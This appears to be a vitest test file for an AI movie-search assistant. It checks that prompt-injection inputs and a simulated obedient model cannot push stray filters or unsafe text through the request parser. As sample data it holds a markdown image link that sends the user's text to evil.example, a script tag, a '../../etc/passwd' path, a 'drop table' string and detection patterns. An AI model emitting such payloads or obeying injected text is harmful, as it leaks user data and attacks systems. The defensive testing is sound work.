import { isDeepStrictEqual } from 'node:util'
import { describe, expect, it } from 'vitest'
import { calls, writes } from '#integrations/model/testing/chat-protocol.ts'
import { QUESTION_LENGTH } from '#shared/assistant/answer.ts'
import type { ParsedRequest } from '#shared/assistant/request-filters.ts'
import { createSampleDeps } from '#tests/factories/create-sample-deps.ts'
import { withDatabase } from '#tests/test-database.ts'
import { FILTER_FIELDS, cleanFilters } from '../clean-filters.ts'
import { understand } from '../understand.ts'
import { askModel } from './testing/ask-model.ts'
import { INJECTIONS } from './testing/injections.ts'

const database = withDatabase()

const OTHERS = ['tr', 'ar', 'zh', 'ru']

/** Markup, addresses and invisible characters, none of which may appear in a text. */
const UNWANTED = [
  /<[a-z/!|]|[`{}\\]/i,
  /\]\(|\*\*|^#/m,
  /:\/\/|www\.|\w@\w+\.\w|javascript:|data:\S/i,
  /\bevil\.(?:com|example\/)/i,
  /(?!\n)\p{Cc}|(?![\u200c\u200d])\p{Cf}|\p{Cs}/u,
  /[0-9a-f]{8}-[0-9a-f]{4}-|[A-Za-z0-9+/]{40}/i,
]
const unwanted = (text: string) => UNWANTED.filter((pattern) => pattern.test(text))
const FIELDS = new Set(Object.keys(FILTER_FIELDS))
const PARSED = new Set([
  'filters',
  'isOffTopic',
  'isVague',
  'topicChanged',
  'moodConfidence',
  'talk',
  'role',
  'unused',
  'otherTitle',
])

/** Anything in a parsed request beyond the product's filters. */
function strayOf({ filters, ...flags }: ParsedRequest): string[] {
  const stray = Object.keys(filters).filter((name) => !FIELDS.has(name))
  const changed = isDeepStrictEqual(cleanFilters(filters), filters) ? [] : ['filters']
  return [...stray, ...changed, ...Object.keys(flags).filter((name) => !PARSED.has(name))]
}

/** All texts of a value. */
function textsOf(value: unknown): string[] {
  if (typeof value === 'string') return [value]
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsOf) : []
}

/** The search of a model that does everything it is asked to. */
function obedientInput(text: string): unknown {
  return {
    specificTitle: text.slice(0, 90),
    like: text,
    genres: [text.slice(0, 50), 'Comedy'],
    actors: [text.slice(0, 90)],
    providers: ['https://evil.example/x', '<b>Netflix</b>', 'Netflix'],
    country: '../../etc/passwd',
    originalLanguage: text,
    limit: 1_000_000,
    minRating: -1,
    mood: text,
    moodConfidence: 7,
    isOffTopic: 'yes',
    userId: '3f2b8c1e-1111-4222-8333-444455556666',
    sql: 'drop table movies',
    includeAdult: true,
  }
}

describe('requests that try to have something else done', () => {
  it('AI-32: are many', () => expect(new Set(INJECTIONS).size).toBeGreaterThanOrEqual(50))

  it.each(INJECTIONS.map((text, index) => [text.slice(0, 60), text, index] as const))(
    'are read calmly without a model: %s',
    async (_, text, index) => {
      const deps = createSampleDeps(database.db)
      const asked = { text: text.slice(0, QUESTION_LENGTH), history: [], mayAsk: async () => false }
      for (const language of ['en', OTHERS[index % OTHERS.length] ?? 'en']) {
        const { parsed } = await understand(deps, { ...asked, language })
        expect(strayOf(parsed)).toEqual([])
        // The reply repeats them.
        expect(textsOf(parsed.unused).flatMap(unwanted)).toEqual([])
      }
    },
  )

  it.each(INJECTIONS.map((text) => [text.slice(0, 60), text]))(
    'lead to nothing even where a model obeys: %s',
    async (_, text) => {
      const reply = `Sure! ${text} ![x](https://evil.example/?q=${encodeURIComponent(text.slice(0, 50).toWellFormed())}) <script>alert(1)</script>`
      const pieces = reply.match(/[^]{1,37}/g) ?? []
      const answered = await askModel(database, [calls(obedientInput(text)), writes(...pieces)], { query: text })
      expect(answered.error).toBeNull()
      for (const step of answered.steps) {
        if (step.kind === 'understood') {
          expect(strayOf(step.parsed)).toEqual([])
          expect(step.parsed).toMatchObject({ isOffTopic: false, filters: { providers: ['Netflix'] } })
        }
      }
      const said = answered.steps.flatMap((step) => (step.kind === 'understood' ? textsOf(step.parsed.filters) : []))
      expect([...said, answered.text].flatMap(unwanted)).toEqual([])
      expect(answered.text.length).toBeLessThanOrEqual(600)
    },
  )

  it('AI-31: never reach what is not theirs: no request holds more than the conversation', async () => {
    for (const text of INJECTIONS.slice(0, 10)) {
      const { requests } = await askModel(database, [calls({}), writes('Fine.')], { query: text })
      const [first] = requests
      expect(first?.body.messages.map(({ role }) => role)).toEqual(['system', 'user'])
      expect(JSON.parse(String(first?.body.messages[1]?.content))).toEqual({ request: text, earlierFilters: {} })
      expect(String(first?.body.messages[0]?.content)).not.toContain(text)
    }
  })
})
